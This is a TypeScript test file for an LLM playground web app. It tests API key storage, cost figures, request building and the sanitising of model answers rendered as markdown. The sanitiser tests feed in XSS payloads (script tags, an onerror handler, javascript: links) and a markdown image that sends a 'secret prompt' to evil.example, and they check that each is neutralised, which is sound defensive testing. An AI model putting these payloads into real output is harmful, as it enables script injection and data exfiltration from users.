import { describe, expect, it } from 'vitest';
import { API_KEY_STORAGE_NAME, createApiKeyStore, DEFAULT_SETTINGS, loadSettings, saveSettings, type KeyValueStorage } from '../../src/lib/browser/api-key-store.ts';
import { answerHtml } from '../../src/lib/trial/answer-markdown.ts';
import type { Pricing } from '../../src/lib/data/schema.ts';
import type { StreamUsage } from '../../src/lib/trial/stream.ts';
import { estimateCost, runCost } from '../../src/lib/trial/cost.ts';
import { estimateTokens } from '../../src/lib/calculator/tokenizers.ts';
import { modelsFromQuery, readTrialModels } from '../../src/lib/trial/models.ts';
import { buildTrialRequest } from '../../src/lib/trial/request.ts';
import { applyEvent, describeBadLines, describePhase, runFigures, startRun, type TrialRun } from '../../src/lib/trial/run.ts';

class MemoryStorage implements KeyValueStorage {
  readonly items = new Map<string, string>();
  getItem(key: string) {
    return this.items.get(key) ?? null;
  }
  setItem(key: string, value: string) {
    this.items.set(key, value);
  }
  removeItem(key: string) {
    this.items.delete(key);
  }
}

describe('API key store', () => {
  it('keeps the key in session storage by default and in local storage only when remembered', () => {
    const session = new MemoryStorage();
    const local = new MemoryStorage();
    const store = createApiKeyStore(() => session, () => local);
    store.save(' sk-1 ', false);
    expect(session.getItem(API_KEY_STORAGE_NAME)).toBe('sk-1');
    expect(local.getItem(API_KEY_STORAGE_NAME)).toBeNull();
    expect(store.load()).toEqual({ key: 'sk-1', remembered: false });

    store.save('sk-1', true);
    expect(local.getItem(API_KEY_STORAGE_NAME)).toBe('sk-1');
    expect(session.getItem(API_KEY_STORAGE_NAME)).toBeNull();
    expect(store.load()).toEqual({ key: 'sk-1', remembered: true });

    store.forget();
    expect([...session.items.values(), ...local.items.values()]).not.toContain('sk-1');
    expect(store.load()).toEqual({ key: '', remembered: false });
  });

  it('works without storage (blocked or private mode), keeping nothing', () => {
    const throwing = () => {
      throw new Error('SecurityError');
    };
    const store = createApiKeyStore(throwing, () => undefined);
    store.save('sk-2', true);
    expect(store.load()).toEqual({ key: '', remembered: false });
  });

  it('keeps settings apart from the key and falls back to defaults on bad JSON', () => {
    const local = new MemoryStorage();
    saveSettings({ ...DEFAULT_SETTINGS, baseUrl: 'http://localhost:11434/v1' }, () => local);
    expect(loadSettings(() => local).baseUrl).toBe('http://localhost:11434/v1');
    local.setItem('model-atlas.trial.settings', '{not json');
    expect(loadSettings(() => local)).toEqual(DEFAULT_SETTINGS);
  });
});

describe('answer markdown', () => {
  it('shows raw HTML from the model as text, never as elements', () => {
    const html = answerHtml('Hi <script>alert(1)</script> <img src=x onerror="alert(2)"> <iframe src="https://evil.example"></iframe>');
    expect(html).not.toMatch(/<script|<img|<iframe/);
    expect(html).toContain('&lt;script&gt;');
  });

  it('empties javascript: and data: links and opens others without passing on this page', () => {
    const html = answerHtml('[a](javascript:alert(1)) [b](data:text/html,<b>x</b>) [c](https://example.org)');
    expect(html).not.toMatch(/javascript:|data:text/);
    expect(html).toContain('<a rel="nofollow noopener noreferrer" target="_blank" href="https://example.org">c</a>');
  });

  it('shows markdown images as links to the image, so an answer never makes the browser fetch a URL', () => {
    const html = answerHtml('![chart](https://evil.example/pixel.png?q=my%20secret%20prompt "t") and ![](/relative.png) and ![x](data:image/png;base64,AAAA)');
    expect(html).not.toContain('<img');
    expect(html).toContain(
      '<a href="https://evil.example/pixel.png?q=my%20secret%20prompt" rel="noopener noreferrer nofollow" target="_blank">chart (image)</a>',
    );
    expect(html).toContain('<span class="inert-link">image</span>');
    expect(html).toContain('<span class="inert-link">x</span>');
  });

  it('renders GFM tables and lists', () => {
    expect(answerHtml('| a |\n|---|\n| 1 |')).toContain('<table>');
    expect(answerHtml('- x\n- y')).toContain('<li>x</li>');
  });
});

const pricing: Pricing = {
  perMillionTokens: { input: '0.5', output: '1.5', cacheRead: '0.05', reasoning: '3' },
  perUnit: {},
  tiers: [],
  unknown: {},
};

function usage(overrides: Partial<StreamUsage> = {}): StreamUsage {
  return {
    promptTokens: 1000,
    completionTokens: 300,
    totalTokens: 1300,
    cachedTokens: 200,
    cacheWriteTokens: null,
    reasoningTokens: 100,
    cost: null,
    implausible: null,
    ...overrides,
  };
}

describe('trial figures', () => {
  const finishedRun = (usage: StreamUsage | null): TrialRun => ({
    ...startRun(0),
    phase: 'done',
    content: 'x'.repeat(80),
    firstTokenAt: 250,
    endedAt: 2250,
    usage,
  });

  it('shows n/a with the reason for usage the server could not have meant, and no cost', () => {
    const reason = 'the server reported Infinity completion_tokens, more than any model handles in one call';
    const run = finishedRun(usage({ implausible: reason }));
    expect(runFigures(run)).toMatchObject({ rate: `n/a: ${reason}`, tokens: `n/a: ${reason}`, promptTokens: 'n/a', completionTokens: 'n/a' });
    expect(runCost(pricing, run.usage)).toEqual({ kind: 'none', reason });
  });

  it('shows believable usage as counts and a rate over the time from first token to end', () => {
    // 300 completion tokens over 2 s.
    expect(runFigures(finishedRun(usage()))).toEqual({
      timeToFirstToken: '250 ms',
      rate: '150.0 tok/s',
      totalTime: '2.25 s',
      tokens: '1,000 prompt (200 cached) · 300 completion (100 reasoning)',
      promptTokens: '1,000',
      completionTokens: '300',
    });
  });

  it('counts a flood of non-JSON lines without keeping each, and names the first', () => {
    let run = startRun(0);
    for (let i = 0; i < 20_000; i += 1) run = applyEvent(run, { type: 'bad-line', line: `junk ${i}` }, 1);
    expect(run).toMatchObject({ badLineCount: 20_000, firstBadLine: 'junk 0' });
    expect(describeBadLines(run)).toBe('20,000 lines in the stream were not JSON and were skipped: “junk 0”.');
  });
});

describe('trial cost', () => {
  it('prefers the cost the server reported', () => {
    expect(runCost(pricing, usage({ cost: '0.0123' }))).toEqual({ kind: 'reported', total: '0.0123' });
  });

  it('computes from catalog prices, billing reasoning tokens apart from the visible completion', () => {
    // 800 input × 0.5 + 200 cached × 0.05 + 200 output × 1.5 + 100 reasoning × 3, per million:
    // 0.0004 + 0.00001 + 0.0003 + 0.0003 = 0.00101.
    expect(runCost(pricing, usage())).toEqual({ kind: 'computed', total: '0.00101' });
  });

  it('says why no cost can be given', () => {
    expect(runCost(pricing, null)).toEqual({ kind: 'none', reason: 'the server sent no token usage' });
    expect(runCost(null, usage())).toMatchObject({ kind: 'none', reason: expect.stringContaining('not in the catalog') });
    const variable: Pricing = { ...pricing, perMillionTokens: { input: 'variable', output: 'variable' } };
    expect(runCost(variable, usage())).toMatchObject({ kind: 'none', reason: expect.stringContaining('variable') });
  });

  it('estimates before sending from about four characters per token plus max tokens', () => {
    // 40 characters ≈ 10 tokens + 4 per message = 14 input tokens; 100 output tokens.
    const estimate = estimateCost(pricing, [{ role: 'user', content: 'x'.repeat(40) }], 100);
    // 14 × 0.5 + 100 × 1.5 per million = 0.000007 + 0.00015.
    expect(estimate).toEqual({ promptTokens: 14, maxCompletionTokens: 100, cost: { kind: 'computed', total: '0.000157' } });
  });

  it('counts characters for the estimate as the calculator does: code points, rounded up', () => {
    // 9 emoji are 9 code points (18 UTF-16 units): ⌈9 / 4⌉ = 3 tokens + 4 for the message. The
    // calculator's "characters ÷ 4" count of the same text is the same 3.
    const emoji = '😀'.repeat(9);
    expect(estimateCost(pricing, [{ role: 'user', content: emoji }], null).promptTokens).toBe(7);
    expect(estimateTokens(emoji)).toBe(3);
  });
});

describe('trial request', () => {
  const settings = { ...DEFAULT_SETTINGS, systemPrompt: 'Be brief.', referer: ' https://a.example ', title: '' };

  it('builds the streamed request and the code sample from the same settings', () => {
    const built = buildTrialRequest('m/x', 'Hello', settings, ' sk-3 ');
    if (!built.ok) throw new Error(built.problem);
    expect(built.stream).toMatchObject({
      baseUrl: 'https://openrouter.ai/api/v1',
      apiKey: 'sk-3',
      headers: { 'HTTP-Referer': 'https://a.example', 'X-Title': undefined },
      body: { model: 'm/x', temperature: 0.7, max_tokens: 512 },
    });
    expect(built.sample.messages).toEqual([
      { role: 'system', content: 'Be brief.' },
      { role: 'user', content: 'Hello' },
    ]);
  });

  it('names the field to fix', () => {
    const problem = (s: Partial<typeof settings>, key = 'sk', prompt = 'Hi') => {
      const built = buildTrialRequest('m/x', prompt, { ...settings, ...s }, key);
      return built.ok ? null : built.problem;
    };
    expect(problem({ temperature: '3' })).toMatch(/^Temperature must be a number from 0 to 2/);
    expect(problem({ maxTokens: '1.5' })).toMatch(/^Max tokens must be a whole number/);
    expect(problem({ baseUrl: 'localhost:11434' })).toMatch(/must start with https:\/\/ or http:\/\//);
    expect(problem({}, '')).toMatch(/^Enter an API key/);
    expect(problem({}, 'sk', '  ')).toBe('Type a prompt first.');
  });
});

describe('trial run state', () => {
  it('says it is waiting for the provider while keep-alives arrive, then receiving', () => {
    let run = startRun(0);
    run = applyEvent(run, { type: 'request-sent' }, 1);
    run = applyEvent(run, { type: 'waiting', comment: 'OPENROUTER PROCESSING' }, 2);
    expect(describePhase(run)).toBe('Waiting for the provider (the server is keeping the connection open)…');
    run = applyEvent(run, { type: 'content', text: 'Hi' }, 5);
    expect(run.firstTokenAt).toBe(5);
    expect(describePhase(run)).toBe('Receiving the answer…');
    run = applyEvent(run, { type: 'finish', reason: 'length' }, 6);
    run = applyEvent(run, { type: 'done' }, 7);
    expect(describePhase(run)).toBe('Done: the answer stopped at the max tokens limit.');
  });
});

describe('playground models', () => {
  it('reads ?models= as up to four distinct ids', () => {
    expect(modelsFromQuery('?models=a/b,%20c/d,a/b,,e/f,g/h,i/j')).toEqual(['a/b', 'c/d', 'e/f', 'g/h']);
    expect(modelsFromQuery('')).toEqual([]);
  });

  it('keeps only well-formed entries of the model list', () => {
    expect(readTrialModels([{ id: 'a', displayName: 'A', pricing, contextLength: 1 }, { id: 2 }, null])).toHaveLength(1);
    expect(readTrialModels({})).toEqual([]);
  });
});
